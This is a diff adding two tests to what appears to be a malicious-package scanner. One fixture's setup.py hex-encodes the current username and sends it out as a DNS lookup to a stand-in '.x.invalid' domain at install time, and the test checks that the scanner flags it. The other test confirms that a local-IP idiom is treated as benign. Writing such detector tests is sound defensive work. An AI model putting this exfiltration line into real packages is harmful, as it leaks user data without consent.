@@ -311,3 +311,23 @@ def test_benign_setup_has_no_findings_above_info(tmp_path: Path) -> None:
     found = findings_for(sdist(tmp_path, setup))
     assert all(f.severity <= Severity.LOW for f in found)
     assert decide(found) is Verdict.BENIGN
+
+
+def test_dns_exfiltration_at_install(tmp_path: Path) -> None:
+    setup = (
+        "import socket, getpass, binascii\n"
+        "socket.gethostbyname(binascii.hexlify(getpass.getuser().encode()).decode() + '.x.invalid')\n"
+    )
+    found = findings_for(sdist(tmp_path, setup))
+    assert any(f.rule_id == "PV304" for f in found)
+
+
+def test_local_ip_idiom_at_import_is_benign(tmp_path: Path) -> None:
+    module = (
+        "import socket\n"
+        "def local_ip():\n"
+        "    return socket.gethostbyname(socket.gethostname())\n"
+        "IP = local_ip()\n"
+    )
+    wheel = make_wheel(tmp_path, "fixture", "1.0", {"fixture/__init__.py": module})
+    assert decide(findings_for(wheel)) is Verdict.BENIGN
